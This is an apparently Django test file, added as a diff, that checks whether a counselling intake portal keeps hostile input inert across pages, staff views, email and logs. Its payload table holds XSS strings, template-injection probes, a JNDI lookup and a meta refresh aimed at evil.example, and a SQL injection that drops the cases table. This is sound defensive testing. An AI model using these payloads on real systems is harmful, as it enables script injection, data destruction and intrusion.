@@ -1,0 +1,147 @@
+"""Code typed into every field stays words, at the portal, the desk, in the mail and in the logs.
+
+The rows X11 and X14 of the house's list of sixty bad inputs.
+"""
+
+from __future__ import annotations
+
+import logging
+from html.parser import HTMLParser
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from django.core import mail
+from django.utils.html import escape
+
+from madoguchi.config.windows import DESK
+from madoguchi.tools.mail.models import Outgoing
+from madoguchi.work.cases.models import Case
+from madoguchi.work.record import jobs
+from tests.web.desk.colleagues import colleague, do
+from tests.web.portal import browsing
+
+if TYPE_CHECKING:
+    from datetime import datetime
+
+    from django.test import Client
+    from pytest_django import Settings
+
+    from madoguchi.tools.office.public import OfficeCard
+
+PAYLOADS = {
+    "script": "<script>alert(1)</script>",
+    "attribute": "\"><img src=x onerror='alert(1)'>",
+    "template": "{{71993*71}}{% load x %}{% csrf_token %}${71993*71}",
+    "look-up": "${jndi:ldap://evil.example/x}",
+    "format": "%s%n%x {0.__class__}",
+    "query": "'; DROP TABLE cases_case;--",
+    "scheme": "javascript:alert(1)",
+    "beacon": "![x](https://evil.example/x.png) [y](javascript:alert(1))",
+    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
+}
+WORKED_OUT = "5111503"
+ADDRESSES = ("href", "src", "action", "formaction", "srcset", "poster", "content")
+
+
+class Parts(HTMLParser):
+    """Every attribute of a page that a browser would follow or run."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.live: list[str] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: ARG002
+        """Keep what leads somewhere or runs."""
+        self.live += [v or "" for n, v in attrs if n in ADDRESSES or n.startswith("on")]
+
+
+def assert_inert(page: str, payload: str) -> None:
+    """The page holds the payload as text at most."""
+    if escape(payload) != payload:
+        assert payload not in page
+    assert "<script>alert" not in page
+    assert WORKED_OUT not in page
+    live = Parts(page).live
+    assert live
+    assert not [v for v in live if "evil.example" in v or "javascript:" in v or "alert(" in v]
+
+
+def tell_all(portal: Client, payload: str) -> list[str]:
+    """Answer the five steps with the payload wherever words are taken; the pages shown."""
+    browsing.begin(portal)
+    wrong = [
+        browsing.answer(portal, 1, danger=payload, who=payload),
+        browsing.answer(portal, 2, contact_rule=payload, phone=payload, email=payload),
+        browsing.answer(portal, 3, age=payload, age_band=payload, support=payload),
+    ]
+    assert [page.status_code for page in wrong] == [422] * 3
+    contact = browsing.CONTACT | {
+        "contact_rule": "mail_only",
+        "mail": "yes",
+        "email": "taro@example.jp",
+        "name": payload,
+        "kana": payload,
+    }
+    upload = browsing.file("x.jpg")
+    vars(upload)["_name"] = payload  # as a hostile browser would send it
+    story = {"urls": payload, "when": payload, "text": payload, "files": [upload]}
+    steps: tuple[dict[str, Any], ...] = (
+        browsing.START,
+        contact,
+        {"town": payload, "language": payload},
+        story | {"place": payload, "kinds": payload},
+        {"how": "any", "visit_when": payload},
+    )
+    for number, typed in enumerate(steps, 1):
+        sent = browsing.answer(portal, number, **typed)
+        assert sent.status_code == 303, (number, sent.content.decode())
+    steps_again = [portal.get(f"/s/c/{number}/") for number in range(1, 6)]
+    return [page.content.decode() for page in (*wrong, *steps_again)]
+
+
+def at_the_desk(settings: Settings, office: OfficeCard, now: datetime) -> tuple[str, str]:
+    """The inbox and the case page of a colleague who took the case."""
+    settings.ROOT_URLCONF, settings.MIDDLEWARE = DESK.urls, list(DESK.middleware)
+    settings.WINDOW = DESK
+    case = Case.objects.get()
+    _, browser = colleague(office, "counsellor", now)
+    assert do(browser, case, "take").status_code == 303
+    page = browser.get(f"/cases/{case.pk}/")
+    return browser.get("/?tab=open").content.decode(), page.content.decode()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
+def test_x11_x14_code_in_every_field_stays_words(
+    portal: Client,
+    office: OfficeCard,
+    now: datetime,
+    settings: Settings,
+    caplog: pytest.LogCaptureFixture,
+    payload: str,
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    portal.defaults |= {
+        "HTTP_USER_AGENT": payload,
+        "HTTP_REFERER": payload,
+        "HTTP_ORIGIN": "http://portal.test",
+    }
+    pages = tell_all(portal, payload)
+    check = portal.get("/s/c/check/").content.decode()
+    assert check.count(escape(payload)) >= 8
+    pair = browsing.send(portal)
+    done = portal.get("/s/c/done/").content.decode()
+    browsing.open_receipt(portal, *pair)
+    assert browsing.add(portal, payload).status_code == 303
+    receipt = portal.get("/s/f/").content.decode()
+    assert escape(payload) in receipt
+    inbox, case = at_the_desk(settings, office, now)
+    assert case.count(escape(payload)) >= 9
+    for page in (*pages, check, done, receipt, inbox, case):
+        assert_inert(page, payload)
+    for row in Outgoing.objects.all():
+        jobs.tell(row.id, now=now)
+    assert mail.outbox
+    for letter in mail.outbox:
+        assert payload not in letter.message().as_string() + letter.subject + str(letter.body)
+    assert payload not in caplog.text
